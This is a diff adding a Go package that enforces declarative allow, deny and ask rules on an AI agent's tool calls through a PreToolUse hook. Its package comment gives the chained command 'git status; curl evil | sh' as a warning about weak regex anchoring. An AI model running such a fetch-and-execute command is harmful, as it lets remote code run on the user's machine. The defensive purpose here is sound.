@@ -0,0 +1,372 @@
+// Package policy governs tool use with declarative rules, evaluated in a
+// PreToolUse hook before each tool call runs.
+//
+// A policy is a list of rules, usually loaded from JSON, and the first
+// rule matching a tool call decides it:
+//
+//	{
+//	  "rules": [
+//	    {"tools": ["Bash"], "action": "allow",
+//	     "input": {"command": {"matches": [
+//	       "^git (status|diff|log)( [^;&|<>$\u0060\\n]*)?$",
+//	       "^go test( [^;&|<>$\u0060\\n]*)?$"]}}},
+//	    {"tools": ["Bash"], "action": "deny", "reason": "only git and go test may run"},
+//	    {"tools": ["Write", "Edit"], "action": "deny", "reason": "outside the workspace",
+//	     "input": {"file_path": {"not_within": ["."]}}},
+//	    {"tools": ["WebFetch", "WebSearch", "mcp__fetch__*"], "action": "ask"}
+//	  ],
+//	  "default": "allow"
+//	}
+//
+// Bash commands are shell strings, so a pattern anchored only at the start,
+// such as "^git status", also allows "git status; curl evil | sh". Anchor
+// command patterns at both ends and exclude the characters that chain,
+// substitute, or redirect commands, as above (\u0060 is a backquote).
+//
+// The policy is enforced by adding its hook to the options:
+//
+//	p, err := policy.Load("policy.json")
+//	stream, err := client.Query(ctx, prompt, p.Apply(options))
+//
+// Policies in YAML can be converted to JSON with any YAML library before
+// calling Parse; the field names are the same.
+package policy
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+
+	"github.com/jrossi/claude-code-sdk-golang/types"
+)
+
+// Action is what a policy decides for a tool call.
+type Action string
+
+// Actions, as sent to the CLI in the PreToolUse hook's permission decision.
+const (
+	ActionAllow Action = "allow"
+	ActionDeny  Action = "deny"
+	ActionAsk   Action = "ask"
+)
+
+// Condition constrains one field of a tool's input. A rule applies only if
+// every one of its conditions holds; a field missing from the input holds
+// no condition. String fields are compared as they are, and other values
+// as JSON.
+type Condition struct {
+	// Matches requires the field to match at least one regular expression.
+	Matches []string `json:"matches,omitempty"`
+
+	// NotMatches requires the field to match none of the regular expressions.
+	NotMatches []string `json:"not_matches,omitempty"`
+
+	// Within requires the field, a path, to be inside at least one of the
+	// directories. Relative paths and directories are taken relative to
+	// the session's working directory, so "." is the workspace, and
+	// symbolic links are followed. A path that cannot be resolved is
+	// inside none of the directories.
+	Within []string `json:"within,omitempty"`
+
+	// NotWithin requires the field, a path, to be inside none of the
+	// directories. It holds for a path that cannot be resolved.
+	NotWithin []string `json:"not_within,omitempty"`
+
+	matches    []*regexp.Regexp
+	notMatches []*regexp.Regexp
+}
+
+// Rule decides the tool calls it matches.
+type Rule struct {
+	// Name identifies the rule in decisions. If empty, the rule is named by
+	// its position, as "rule 1".
+	Name string `json:"name,omitempty"`
+
+	// Tools are the names of the tools the rule applies to, as path.Match
+	// patterns such as "mcp__github__*". If empty, the rule applies to all
+	// tools.
+	Tools []string `json:"tools,omitempty"`
+
+	// Input holds conditions on the tool's input fields.
+	Input map[string]*Condition `json:"input,omitempty"`
+
+	Action Action `json:"action"`
+
+	// Reason is shown to Claude when the rule denies or asks.
+	Reason string `json:"reason,omitempty"`
+}
+
+// Policy is an ordered list of rules. It is safe for concurrent use once
+// built.
+type Policy struct {
+	Rules []Rule `json:"rules"`
+
+	// Default decides tool calls no rule matches. If empty, they are left
+	// to the CLI's permission settings.
+	Default Action `json:"default,omitempty"`
+
+	once sync.Once
+	err  error
+}
+
+// Decision is the outcome of evaluating a policy for a tool call.
+type Decision struct {
+	// Action is empty if neither a rule nor the default decided.
+	Action Action
+
+	// Rule names the rule that decided, or is empty for the default.
+	Rule   string
+	Reason string
+}
+
+// Parse reads a policy from JSON and validates it. Unknown fields are
+// errors, so that a misspelled condition cannot silently allow a call.
+func Parse(data []byte) (*Policy, error) {
+	decoder := json.NewDecoder(bytes.NewReader(data))
+	decoder.DisallowUnknownFields()
+
+	var p Policy
+	if err := decoder.Decode(&p); err != nil {
+		return nil, fmt.Errorf("failed to parse policy: %w", err)
+	}
+	if err := p.Validate(); err != nil {
+		return nil, err
+	}
+	return &p, nil
+}
+
+// Load reads a policy from a JSON file.
+func Load(path string) (*Policy, error) {
+	data, err := os.ReadFile(path)
+	if err != nil {
+		return nil, fmt.Errorf("failed to read policy: %w", err)
+	}
+	return Parse(data)
+}
+
+// Validate checks the actions, tool patterns, and regular expressions of
+// the policy and compiles it. Evaluate calls it on first use; a policy
+// that is not valid denies every tool call.
+func (p *Policy) Validate() error {
+	p.once.Do(func() {
+		p.err = p.compile()
+	})
+	return p.err
+}
+
+func (p *Policy) compile() error {
+	if !validAction(p.Default, true) {
+		return fmt.Errorf("invalid policy default action: %q", p.Default)
+	}
+	for i := range p.Rules {
+		rule := &p.Rules[i]
+		if rule.Name == "" {
+			rule.Name = fmt.Sprintf("rule %d", i+1)
+		}
+		if !validAction(rule.Action, false) {
+			return fmt.Errorf("%s: invalid action: %q", rule.Name, rule.Action)
+		}
+		for _, tool := range rule.Tools {
+			if _, err := path.Match(tool, ""); err != nil {
+				return fmt.Errorf("%s: invalid tool pattern %q: %w", rule.Name, tool, err)
+			}
+		}
+		for field, cond := range rule.Input {
+			if cond == nil {
+				return fmt.Errorf("%s: empty condition for %q", rule.Name, field)
+			}
+			var err error
+			if cond.matches, err = compileAll(cond.Matches); err != nil {
+				return fmt.Errorf("%s: %s: %w", rule.Name, field, err)
+			}
+			if cond.notMatches, err = compileAll(cond.NotMatches); err != nil {
+				return fmt.Errorf("%s: %s: %w", rule.Name, field, err)
+			}
+		}
+	}
+	return nil
+}
+
+func validAction(action Action, optional bool) bool {
+	switch action {
+	case ActionAllow, ActionDeny, ActionAsk:
+		return true
+	case "":
+		return optional
+	}
+	return false
+}
+
+func compileAll(patterns []string) ([]*regexp.Regexp, error) {
+	compiled := make([]*regexp.Regexp, len(patterns))
+	for i, pattern := range patterns {
+		re, err := regexp.Compile(pattern)
+		if err != nil {
+			return nil, err
+		}
+		compiled[i] = re
+	}
+	return compiled, nil
+}
+
+// Evaluate decides a call of tool with input, made in the working
+// directory cwd.
+func (p *Policy) Evaluate(tool string, input map[string]any, cwd string) Decision {
+	if err := p.Validate(); err != nil {
+		return Decision{Action: ActionDeny, Reason: "invalid policy: " + err.Error()}
+	}
+
+	for _, rule := range p.Rules {
+		if rule.applies(tool, input, cwd) {
+			return Decision{Action: rule.Action, Rule: rule.Name, Reason: rule.Reason}
+		}
+	}
+	return Decision{Action: p.Default}
+}
+
+// applies reports whether the rule matches a tool call.
+func (r *Rule) applies(tool string, input map[string]any, cwd string) bool {
+	if len(r.Tools) > 0 {
+		matched := false
+		for _, pattern := range r.Tools {
+			if ok, _ := path.Match(pattern, tool); ok {
+				matched = true
+				break
+			}
+		}
+		if !matched {
+			return false
+		}
+	}
+
+	for field, cond := range r.Input {
+		value, ok := input[field]
+		if !ok || !cond.holds(stringValue(value), cwd) {
+			return false
+		}
+	}
+	return true
+}
+
+// stringValue returns an input value as a string.
+func stringValue(value any) string {
+	if s, ok := value.(string); ok {
+		return s
+	}
+	data, _ := json.Marshal(value)
+	return string(data)
+}
+
+// holds reports whether value satisfies the condition.
+func (c *Condition) holds(value, cwd string) bool {
+	if len(c.matches) > 0 && !anyMatch(c.matches, value) {
+		return false
+	}
+	if anyMatch(c.notMatches, value) {
+		return false
+	}
+	if len(c.Within) > 0 && !within(value, c.Within, cwd) {
+		return false
+	}
+	if within(value, c.NotWithin, cwd) {
+		return false
+	}
+	return true
+}
+
+func anyMatch(patterns []*regexp.Regexp, value string) bool {
+	for _, re := range patterns {
+		if re.MatchString(value) {
+			return true
+		}
+	}
+	return false
+}
+
+// within reports whether the path p is inside any of dirs, after resolving
+// both against cwd, cleaning them, and following symbolic links, so that
+// neither "../" nor a link can escape. A path that cannot be resolved, such
+// as a relative path without a working directory, is inside none of them,
+// so Within fails and NotWithin holds.
+func within(p string, dirs []string, cwd string) bool {
+	p, ok := resolve(p, cwd)
+	if !ok {
+		return false
+	}
+	for _, dir := range dirs {
+		dir, ok := resolve(dir, cwd)
+		if !ok {
+			continue
+		}
+		rel, err := filepath.Rel(dir, p)
+		if err == nil && rel != ".." && !strings.HasPrefix(rel, ".."+string(filepath.Separator)) {
+			return true
+		}
+	}
+	return false
+}
+
+// resolve returns the absolute, cleaned form of p relative to cwd, with
+// symbolic links in the part of it that exists followed. It reports false
+// if p cannot be made absolute or holds a link that cannot be followed.
+func resolve(p, cwd string) (string, bool) {
+	if !filepath.IsAbs(p) {
+		p = filepath.Join(cwd, p)
+	}
+	if !filepath.IsAbs(p) {
+		return "", false
+	}
+	p = filepath.Clean(p)
+
+	// Follow links in the longest existing prefix; the rest, such as a
+	// file about to be written, cannot be a link yet
+	rest := ""
+	for dir := p; ; {
+		real, err := filepath.EvalSymlinks(dir)
+		if err == nil {
+			return filepath.Join(real, rest), true
+		}
+		if _, statErr := os.Lstat(dir); statErr == nil {
+			// It exists but cannot be followed, such as a dangling link
+			return "", false
+		}
+		parent := filepath.Dir(dir)
+		if parent == dir {
+			return p, true
+		}
+		rest = filepath.Join(filepath.Base(dir), rest)
+		dir = parent
+	}
+}
+
+// Hook returns a PreToolUse hook callback enforcing the policy. Calls the
+// policy leaves undecided get an empty output, deferring to the CLI.
+func (p *Policy) Hook() types.HookCallback {
+	return func(ctx context.Context, input types.HookInput, toolUseID string) (types.HookOutput, error) {
+		decision := p.Evaluate(input.ToolName, input.ToolInput, input.Cwd)
+		if decision.Action == "" {
+			return types.HookOutput{}, nil
+		}
+		reason := decision.Reason
+		if reason == "" && decision.Action != ActionAllow {
+			reason = "blocked by policy"
+			if decision.Rule != "" {
+				reason += " (" + decision.Rule + ")"
+			}
+		}
+		return types.PreToolUseOutput(string(decision.Action), reason, nil), nil
+	}
+}
+
+// Apply adds the policy's hook to options for all tools and returns
+// options.
+func (p *Policy) Apply(options *types.Options) *types.Options {
+	return options.AddHook(types.HookEventPreToolUse, "", p.Hook())
+}